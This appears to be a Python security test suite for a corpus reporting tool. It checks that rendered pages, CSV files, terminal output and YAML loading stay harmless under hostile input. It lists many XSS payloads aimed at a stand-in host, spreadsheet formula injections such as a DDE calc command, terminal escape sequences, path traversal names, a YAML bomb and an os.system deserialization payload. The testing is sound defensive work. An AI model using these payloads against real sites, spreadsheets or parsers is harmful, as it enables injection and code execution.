"""Hostile words wherever words come from: pages opened in a real Chromium do nothing, spreadsheets and terminals are told nothing.

Each payload stands on a page in every kind of block, on an index, and in every figure. Its page must show itself and nothing else: no dialog, no
request, no changed title, no script, no handler, no element that loads, embeds, submits or redirects.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from conftest import ROOT
from nbformat import v4
from test_pages_browser import ARGUMENTS, CHROMIUM, report

from corpus_utils import schema
from corpus_utils.cli import main
from corpus_utils.report import blocks as b
from corpus_utils.report.findings_files import findings_csv
from corpus_utils.report.render import render_page
from corpus_utils.site import STATES, render_index

TAKE = "document.title='taken'"
FAR = "https://evil.example"
MARKUP = [
    f"<script>{TAKE}</script>",
    f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    f"<scr<script>ipt>{TAKE}</scr</script>ipt>",
    f"</script><script>{TAKE}</script>",
    f"</style><script>{TAKE}</script><style>",
    f"</title><script>{TAKE}</script>",
    f"</textarea></xmp></noscript><script>{TAKE}</script>",
    f"--><script>{TAKE}</script><!--",
    f"<![CDATA[<script>{TAKE}</script>]]>",
    f'"><img src=x onerror="{TAKE}">',
    f"'><img src=x onerror={TAKE}>",
    f"`><img src=x onerror={TAKE}>",
    f"<img src='{FAR}/a.png'>",
    f"<img srcset='{FAR}/a.png 2x'>",
    f"<image href='{FAR}/a.png'>",
    f'" onmouseover="{TAKE}" x="',
    f"' autofocus onfocus='{TAKE}' '",
    f"<svg onload={TAKE}>",
    f"<svg><script>{TAKE}</script></svg>",
    f"<svg><animate onbegin={TAKE} attributeName=x dur=1s>",
    f"<svg><use href='{FAR}/x.svg#a'></svg>",
    f"<svg><foreignObject><iframe src={FAR}></iframe></foreignObject></svg>",
    f"</svg><script>{TAKE}</script>",
    f"]]></svg><img src={FAR}/b.png>",
    f"<math><mi xlink:href='javascript:{TAKE}'>x</mi></math>",
    f"<iframe src='javascript:{TAKE}'></iframe>",
    f"<iframe srcdoc='<script>parent.{TAKE}</script>'></iframe>",
    f"<object data='{FAR}/x'></object><embed src='{FAR}/y'>",
    f"<video src={FAR}/v.mp4 autoplay onerror={TAKE}></video><audio src={FAR}/a.mp3 autoplay></audio>",
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<link rel=prefetch href={FAR}/x><link rel=dns-prefetch href={FAR}>",
    f"<style>@import url({FAR}/x.css); body{{background:url({FAR}/b.png)}}</style>",
    f"<p style=\"background:url('{FAR}/b.png')\">x",
    "<style>*{display:none}</style>",
    f"<base href='{FAR}/'>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<form action={FAR}><input autofocus onfocus={TAKE}><button>go</button></form>",
    f"<details open ontoggle={TAKE}>x</details>",
    f"<marquee onstart={TAKE}>x</marquee>",
    f"<body onload={TAKE}>",
    f"<input type=image src={FAR}/i.png onerror={TAKE}>",
    f"<a href='javascript:{TAKE}'>click</a>",
    f"<a href=' java\nscript:{TAKE}'>click</a>",
    f"<a href='data:text/html,<script>{TAKE}</script>'>click</a>",
    f"<a href='{FAR}' ping='{FAR}/ping'>click</a>",
    "<template><p>hidden</p></template>",
    "<plaintext>",
    "<!--",
    "<",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<script\x00>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u200bipt>",
]
MARKDOWN = [
    f"[x](javascript:{TAKE})",
    f"[x](JaVaScRiPt:{TAKE})",
    f"[x](&#106;avascript:{TAKE})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    f"![x]({FAR}/x.png)",
    f"![x]({FAR}/x.png '{TAKE}')",
    f"<javascript:{TAKE}>",
    f"[x]: javascript:{TAKE}\n[x]",
    f"```html\n<script>{TAKE}</script>\n```",
    f"<div>\n\n# heading\n\n<script>{TAKE}</script>\n</div>",
    "# Another title\n\n---\n\n| a | b |\n|---|---|",
    "$$\\require{html}\\href{javascript:alert(1)}{x}$$",
    "{{ 7*7 }} {% for x in (1,) %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{f0} {f0:interval} {nonesuch}",
]  # fmt: skip
TRICKS = [
    "\u202egpj.txt\u202c",
    "\u2066\u2067\u2068x\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\U000e0041\U000e0042tags",
    "\x00\x01\x02\x1b[31mred\x07",
    "Z" + "\u0301" * 200,
    "W" * 5000,
    "\u0627\u0644\u0623\u0645\u0646 \u202a<b>\u202c",
    "\r\n\r\n\t\t",
    "😀" * 50,
]
PAYLOADS = [*MARKUP, *MARKDOWN, *TRICKS]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠x", "\u200b=1+1", "\ufe0f=1+1", "\u2212cmd", "=IMPORTXML(\"https://evil.example\")", "-2+3+cmd|' /C calc'!A0",
    "@=1", "+cmd", "=\x001+1", "\u202e=1+1",
]  # fmt: skip
ESCAPES = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x9b31m", "\x1bP$q\x1b\\", "\x07\x08\x08",
    "\x1b[6n", "\x1b]52;c;cm0gLXJm\x07", "\rdone", "\u202eevil\u202c", "\x1b[?1049h", "\x0e\x0f", "\x1b(0", "a\x7fb", "\x85\x90\x9d",
]  # fmt: skip


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    """One browser for all tests of this module."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (set CHROMIUM)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        context = browser.new_context()
        yield context
        browser.close()


# What has no place on a page, whatever its words: anything that runs, loads, embeds, submits or redirects.
HARM = """() => {
  const found = [...document.querySelectorAll('script,iframe,object,embed,form,input,base,link,video,audio,template,foreignObject,marquee,image')]
    .map(e => e.tagName);
  for (const e of document.querySelectorAll('*')) for (const a of e.attributes) {
    if (a.name.startsWith('on') || a.name === 'ping' || a.name === 'srcset' && !a.value.startsWith('data:')) found.push(e.tagName + ' ' + a.name);
    if (['href', 'src', 'action', 'xlink:href'].includes(a.name) && /^\\s*(javascript|vbscript|data:(?!image|text.csv))/i.test(a.value)) found.push(a.value);
    if (a.name === 'src' && !a.value.startsWith('data:image/')) found.push(a.value);
  }
  const metas = [...document.querySelectorAll('meta[http-equiv]')].filter(m => m.httpEquiv.toLowerCase() !== 'content-security-policy');
  return [...found, ...metas.map(m => m.httpEquiv)];
}"""


def open_page(chromium: Any, address: str) -> Any:
    """Open a page and assert that it does nothing; the page, for more questions."""
    page = chromium.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(address)
    assert [url for url in requests if not url.startswith("data:")] == [address] and not dialogs
    assert page.evaluate(HARM) == []
    assert page.title() != "taken" and len(chromium.pages) == 1
    return page


def seen(text: str) -> str:
    """What is left of a text on a page: letters and digits in order, for the characters that cannot be seen are taken out."""
    return "".join(char for char in text if char.isalnum() and unicodedata.category(char)[0] in "LN")


def words_page(text: str) -> str:
    """A page with every kind of block that holds words, all of them `text`."""
    findings = schema.frame(
        "findings",
        [{"id": text, "measure": text, "unit": text, "denominator": text, "label": text, "group": text, "estimate": 0.4, "low": 0.3, "high": 0.5,
          "interval_kind": text, "n_articles": 3, "n_units": 9, "gate": "description", "tier": "unvalidated", "evidence": [text]}],
    )  # fmt: skip
    sentence = {
        "sentence_id": text, "text": text * 2, "outlet": text, "title": text, "date": text, "voice": "direct", "position": text, "speaker": text,
        "label": text, "note": text, "document": text, "language": text, "marks": [[0, 3, text]],
    }  # fmt: skip
    spans = pd.DataFrame([{"start": 0, "end": max(1, len(text) // 2), "role": "promotion", "story": 1, "rule": text}])
    table = pd.DataFrame([{text: text, "other": text, "link": text}])
    shown = [
        b.page_head(text, text, corpus=text, standfirst=text),
        b.answer(text.replace("{", "(") + " {f:decimal}", [{"id": "f", "measure": text, "estimate": 1.5}]),
        b.facts({text: (text, text)}),
        b.section(text, text),
        *(b.notice(text, kind, title=text) for kind in b.NOTICES),
        b.sentences_block(pd.DataFrame([sentence]), text),
        b.sentences_block(pd.DataFrame([sentence]).head(0), text, empty=text),
        b.raw_document(text, spans, title=text, open_=True),
        b.table(table, caption=text, links={text: "link"}, headers={"other": text}, csv_href=text),
        b.table(table.head(0), caption=text, empty=text),
        b.method(text, [text]),
        b.definitions({text: text}),
        b.downloads([{"href": text, "label": text, "note": text}]),
        b.findings_table(findings, text),
        b.provenance({text: text}),
        b.publish(question=text, headline=text, facts={text: text}),
    ]
    cells = [v4.new_code_cell("pass", outputs=[v4.new_output("display_data", data=item._repr_mimebundle_())]) for item in shown]
    cells += [v4.new_markdown_cell(f"## A heading\n\n{text}"), v4.new_code_cell("pass", outputs=[v4.new_output("stream", text=text)])]
    meta = {"site": text, "home": text, "description": text, "footer": text, "lang": text, "pages": [{"href": text, "title": text}]}
    return render_page(v4.new_notebook(cells=cells), title=f"Report {text}", meta=meta)


def words_index(text: str) -> str:
    """An index whose every word is `text`."""
    card = dict.fromkeys(("question", "headline", "href", "state_note", "error_href", "dates", "since", "thumbnail"), text)
    files = [{"href": text, "label": text}]
    facts = {
        "name": f"Report {text}",
        "description": text,
        "facts": {text: text},
        "since": text,
        "since_href": text,
        "alerts": [text],
        "made": text,
    }
    return render_index([card | {"state": state, "downloads": files} for state in STATES], facts | {"downloads": files, "footer": text})


@pytest.mark.browser
@pytest.mark.parametrize("make", [words_page, words_index], ids=["page", "index"])
@pytest.mark.parametrize("text", PAYLOADS, ids=[ascii(payload)[1:40] for payload in PAYLOADS])
def test_a_payload_in_every_block_does_nothing(chromium: Any, tmp_path: Path, text: str, make: Any) -> None:
    """In every block, caption, cell, address and attribute of a page: it is shown as the words it is."""
    file = tmp_path / "page.html"
    file.write_text(make(text), encoding="utf-8")
    page = open_page(chromium, file.as_uri())
    assert page.title().startswith("Report")
    assert seen(text) in seen(page.locator("body").text_content())
    page.close()


@pytest.mark.browser
@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 7))
def test_payloads_in_every_figure_do_nothing(chromium: Any, tmp_path: Path, first: int) -> None:
    """In labels, captions, axes and alternative texts of every chart."""
    file = tmp_path / "page.html"
    file.write_text(report([PAYLOADS[(first + step) % len(PAYLOADS)] for step in range(7)]), encoding="utf-8")
    open_page(chromium, file.as_uri()).close()


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_cell_is_a_formula(formula: str) -> None:
    """Neither as a spreadsheet reads the file, nor after it has folded wide forms and dropped what cannot be seen."""
    row = {"id": formula, "report": "r", "label": formula, "group": formula, "estimate": 0.5, "evidence": [formula]}
    (read,) = csv.DictReader(io.StringIO(findings_csv([row]).decode("utf-8"), newline=""))
    for cell in (read["id"], read["label"], read["group"], read["evidence"]):
        bare = "".join(
            char for char in unicodedata.normalize("NFKC", cell) if unicodedata.category(char) not in ("Cf", "Cc", "Mn")
        ).lstrip()
        assert not bare.startswith(("=", "+", "-", "@", "\N{MINUS SIGN}")), cell
    assert read["estimate"] == "0.5"


@pytest.fixture(scope="module")
def escapes(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of records whose every field holds terminal escapes."""
    file = tmp_path_factory.mktemp("escapes") / "records.jsonl"
    rows = [
        {
            "id": f"{n}{escape}",
            "title": f"Title {escape}",
            "outlet": f"Out {escape}",
            "text": f"The council {escape} met again on Monday to talk.",
        }
        for n, escape in enumerate(ESCAPES)
    ]
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return file


@pytest.mark.parametrize("command", [["kwic", "council"], ["inspect"], ["clean", "--explain"]], ids=lambda command: command[0])
def test_a_terminal_is_told_nothing(escapes: Path, capsys: pytest.CaptureFixture[str], command: list[str]) -> None:
    """What is printed of a corpus holds no escape, no bell, no backspace and no reordering, in output and in errors."""
    assert main([*command, str(escapes)]) == 0
    captured = capsys.readouterr()
    assert "council" in captured.out or command[0] == "inspect"
    for text in (captured.out, captured.err):
        bad = [char for char in text if (unicodedata.category(char) == "Cc" and char not in "\n\t") or char in "\u202e\u202c\u2066\u2069"]
        assert not bad, ascii(text[:300])


@pytest.mark.parametrize("name", ["../../../etc/passwd", "..", "/etc", "a/b", "a\x00b", "*", "latest/../..", "<b>", "\x1b[31m"])
def test_a_run_is_no_path(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    """The name of a run from the command line leads nowhere else."""
    (tmp_path / "corpus.toml").write_text('[corpus]\nsources = ["x"]\n')
    assert main(["diff", name, "latest", "--project", str(tmp_path)]) == 2
    assert "\x1b" not in capsys.readouterr().err


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{f'*{chr(97 + n)},' * 9}]\n" for n in range(9))


@pytest.mark.parametrize(
    "text", [BOMB, "!!python/object/apply:os.system ['touch taken']", "[" * 5000, "\x00", "a: *nowhere", "<<: *x", "? " * 3000],
    ids=["bomb", "object", "deep", "nul", "dangling", "merge", "keys"],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["codebook", "reports"])
def test_yaml_is_data(tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, text: str) -> None:
    """A codebook and a list of reports from a stranger: an error in words, at once, and nothing is run."""
    from corpus_utils.annotate.codebook import CodebookError, load_codebook
    from corpus_utils.report.plan import PlanError, load_reports

    file = tmp_path / f"{kind}.yml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises((CodebookError, PlanError)) as told:
        load_codebook(file) if kind == "codebook" else load_reports(file)
    assert len(str(told.value)) < 3000 and not (tmp_path / "taken").exists() and not Path("taken").exists()


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which everything a stranger can word is hostile, and its reports."""
    root = tmp_path_factory.mktemp("hostile") / "study"
    (root / "in").mkdir(parents=True)
    shutil.copytree(ROOT / "notebooks", root / "notebooks", ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    evil = f'\\"><script>{TAKE}</script>'
    (root / "corpus.toml").write_text(
        f'[corpus]\nname = "{evil}"\nsources = ["in"]\nquery = "{evil}"\npopulation = "{evil}"\n[[alerts]]\nname = "{evil}"\nabove = -9\n'
        f'[outlets]\n"{evil}" = ["evil.example"]\n',
        encoding="utf-8",
    )
    story = "The minister of {0} met the council of {0} on Monday. “We will {0} together,” said Anna {0} Berg, who leads it. They agreed to go on."
    printable = [payload for payload in PAYLOADS if "W" * 99 not in payload]
    rows = [
        {"title": f"A title {payload}", "text": "\n\n".join([story.format(payload)] * 3), "outlet": f"Out {payload}", "author": f"By {payload}",
         "date": "2024-02-28", "url": f"javascript:{TAKE}", "id": f"{number} {payload}", "more": payload}
        for number, payload in enumerate(printable[:60])
    ]  # fmt: skip
    (root / "in" / "records.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    for number, name in enumerate(
        [f"<img src=x onerror={TAKE.replace('/', '')}>.txt", "=1+1.txt", "-rf.txt", "a\nb.txt", "$(touch taken).txt", "\u202etxt.html"]
    ):
        (root / "in" / name).write_text(
            f"A bridge reopens {number}\n\nThe old bridge was reopened on Monday after long repairs. " * 3, encoding="utf-8"
        )
    command = [sys.executable, "-m", "corpus_utils", "report"]
    done = subprocess.run(command, cwd=root, capture_output=True, text=True, check=False, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stderr[-3000:]
    assert "\x1b" not in done.stderr
    return root


@pytest.mark.slow
@pytest.mark.browser
def test_a_hostile_corpus_gives_harmless_reports(hostile_site: Path, chromium: Any) -> None:
    """Titles, words, outlets, authors, ids, file names and settings, through the whole line, into real pages and files."""
    pages = [hostile_site / "reports" / "index.html", *sorted((hostile_site / "reports" / "runs").glob("*/*.html"))]
    assert len(pages) >= 5
    for file in pages:
        assert str(hostile_site) not in file.read_text(encoding="utf-8"), "a path of the machine"
        open_page(chromium, file.as_uri()).close()
    for file in (hostile_site / "reports").rglob("*.csv"):
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
            assert not any(cell[:1] in ("=", "@", "\t") or (cell[:1] in "+-" and cell[1:2].isalpha()) for cell in row), row
    assert not list(hostile_site.rglob("taken")) and not Path("taken").exists()
